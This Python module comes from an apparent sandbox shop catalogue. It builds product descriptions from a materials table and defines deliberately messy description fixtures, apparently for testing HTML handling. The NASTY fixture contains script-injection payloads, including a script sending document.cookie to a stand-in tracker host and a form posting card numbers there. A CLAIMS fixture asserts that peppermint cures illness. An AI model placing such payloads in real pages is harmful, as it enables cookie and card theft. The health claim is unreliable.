"""What the shop writes about its goods. The odd descriptions are as bad as those found in real stores."""

from __future__ import annotations

from sandbox.catalogue.goods import Goods

MATERIALS = {
    "Drinkware": ("Clay, glass or enamelled steel", "Dishwasher safe. Let enamel dry before you stack it."),
    "Tableware": ("Stoneware", "Dishwasher and oven safe up to 430 °F."),
    "Cookware": ("Steel and iron", "Wash by hand, dry at once, and oil now and then."),
    "Kitchen Tools": ("Wood and brass", "Wipe clean. Oil the wood twice a year."),
    "Storage": ("Glass and wood", "Lids by hand, the rest in the dishwasher."),
    "Linen": ("Linen and cotton", "Wash warm with like colours, dry on the line."),
    "Candles": ("Wax and cotton", "Trim the wick to a quarter inch, and stay in the room."),
    "Decor": ("Mixed", "Dust with a dry cloth."),
    "Garden": ("Terracotta and steel", "Empty and bring it in before hard frost."),
    "Bath & Body": ("Plant oils", "Keep dry between uses. Made in small batches."),
    "Stationery": ("Paper and brass", "Keep it flat and away from tea."),
    "Tools": ("Steel and hardwood", "Wipe down after use and keep dry."),
    "Apparel": ("Cotton and wool", "Wash inside out at 86 °F. Reshape while damp."),
    "Bags": ("Canvas and leather", "Brush off dust; wax once a year."),
    "Pets": ("Canvas and stoneware", "The cover is washable."),
    "Outdoor": ("Cork, cotton and enamel", "Shake out the sand before packing."),
}
CLOSING = "Packed by hand in our own shop by the harbor and sent within two working days."


def material(product_type: str) -> str:
    return MATERIALS[product_type][0]


def description(goods: Goods) -> str:
    made_of, care = MATERIALS[goods.product_type]
    length, width, height = goods.size
    return (
        f"<p>{goods.sentence}</p>"
        f"<ul><li><b>Material:</b> {made_of}</li>"
        f"<li><b>Packed size:</b> {length} × {width} × {height} in</li>"
        f"<li><b>Care:</b> {care}</li></ul>"
        f"<p>{CLOSING}</p>"
    )


NASTY = """<div style="color:red;position:fixed;top:0" onclick="alert(1)">
<script>document.location='//tracker.invalid/'+document.cookie</script>
<style>body{display:none}</style>
<iframe src="//video.invalid/embed/1" width="560" height="315" allowfullscreen></iframe>
<h2 onmouseover="alert(2)">A bowl for <FONT COLOR="#ff0000">everything</FONT></h2>
<table border=1 cellpadding=4><tr><th>Width<th>Height<tr><td>8&nbsp;in<td>3&frac12;&nbsp;in</table>
<p>Glazed inside &amp; out<br><br><br>by <a href="javascript:alert(3)">our potter</a>, fired twice.
<img src=x onerror=alert(4)><img src="data:image/png;base64,iVBORw0KGgo=" alt="">
<svg><script>alert(5)</script></svg><object data="a.swf"></object>
<!-- pasted from a word processor --><o:p></o:p><span class=MsoNormal lang=EN-US>Dishwasher&#160;safe.</span>
<form action="//tracker.invalid/"><input name=card><button>Order here</button></form>
<p>&lt;script&gt;not a tag&lt;/script&gt; unclosed <b>bold <i>and italic</b> text</div></div>"""

EMOJI = (
    "<p>☀️ Made for slow mornings 🌊</p><ul><li>✅ Holds 14 oz</li><li>✅ Glazed by hand 🎨</li>"
    "<li>🇺🇸 Shipped from Maine 👩‍🍳</li></ul><p>Zoë says: “the handle fits — finally!” Cocoa? Non.</p>"
)

CLAIMS = (
    "<p>A steaming mug of peppermint cures headaches, colds and bad moods, as our great-aunt always said.</p>"
    "<p>Comes with a wooden lid.</p>"
)


def endless() -> str:
    """More than 10,000 characters, all of them text."""
    paragraph = (
        "The story of this platter begins with the clay, which we dig in the low bank above the mill. It is sieved, "
        "rested for a winter, wedged by hand, rolled, cut and laid over a plaster hump; then it dries for two weeks. "
    )
    return "".join(f"<p>{number}. {paragraph}</p>" for number in range(1, 61))


LONG_TITLE = (
    "Hand Thrown Stoneware Serving Platter with Speckled Cream Glaze and Unglazed Foot, Oven and Dishwasher Safe, for "
    "Bread, Cheese, Roast Vegetables, Whole Fish and Birthday Cakes, Made in Small Batches by the Harbor in Portland, "
    "Maine, Packed in Recycled Paper and Sent within Two Working Days to Any Address in the Country"
)
